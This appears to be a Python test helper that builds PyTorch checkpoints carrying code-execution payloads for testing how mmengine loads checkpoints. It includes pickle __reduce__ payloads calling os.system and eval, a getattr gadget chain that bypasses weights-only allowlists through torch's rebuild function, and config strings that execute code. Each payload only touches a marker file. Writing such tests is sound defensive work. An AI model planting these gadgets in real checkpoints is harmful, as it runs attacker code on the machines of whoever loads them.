"""Checkpoints that run something when they are loaded the wrong way: here, touch a file."""

import copy
import os

import torch


class Calls:
    """Is pickled as a call."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def program(marker):
    """A config text that is a valid config and touches ``marker``."""
    return f'model = dict(a=1)\nx = str(open({str(marker)!r}, "w"))\n'


def system_call(marker):
    return Calls(os.system, f'touch {marker}')


def evaluation(marker):
    return Calls(eval, f'open({str(marker)!r}, "w")')


def getattr_gadget(marker):
    """With ``getattr`` on the list of a loader of weights alone, this runs: getattr.__self__ is the
    module builtins, and torch's own list has a function that calls another."""
    function = Calls(getattr, Calls(getattr, getattr, '__self__'), 'eval')
    return Calls(torch._tensor._rebuild_from_type_v2, function, torch.Tensor,
                 (f'open({str(marker)!r}, "w")',), {})


def method_gadget(marker):
    """The same, from the globals of a function that checkpoints may name."""
    from mmengine.logging import HistoryBuffer
    return Calls(getattr, HistoryBuffer, '__init__')


PICKLES = dict(system=system_call, eval=evaluation, getattr=getattr_gadget, method=method_gadget)


def checkpoint(path, kind, marker, base=None):
    """Writes a checkpoint of mmengine's form that carries one attack: of :data:`PICKLES`, or a
    program as ``'config'``, ``'cfg'`` (in meta), ``'hub'`` (in the message hub) or in all three,
    ``'programs'``."""
    content = copy.deepcopy(base or dict(
        meta=dict(epoch=0, iter=0, seed=0, dataset_meta=None), state_dict=dict(w=torch.ones(2)),
        message_hub=dict(log_scalars={}, runtime_info={}, resumed_keys={})))
    if kind in PICKLES:
        content['extra'] = PICKLES[kind](marker)
    for place in (kind,) if kind != 'programs' else ('config', 'cfg', 'hub'):
        if place in ('config', 'cfg'):
            content['meta'][place] = program(marker)
        elif place == 'hub':
            content['message_hub']['runtime_info']['cfg'] = program(marker)
    torch.save(content, path)
    return path
